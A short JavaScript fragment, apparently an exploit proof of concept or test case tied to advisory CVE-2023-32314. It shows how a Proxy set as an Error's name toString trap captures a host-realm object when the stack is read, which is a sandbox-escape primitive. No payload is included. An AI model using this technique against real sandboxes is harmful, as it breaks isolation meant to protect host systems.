// GHSA-whpj-8f3w-67p5 CVE-2023-32314
// A Proxy trap receives an object that the engine makes in the host's realm.
const error = new Error();
error.name = { toString: new Proxy(() => '', { apply(target, self, args) { seen = args; } }) };
let seen;
try { void error.stack; } catch {}
await useObject(seen ?? {});
return found;
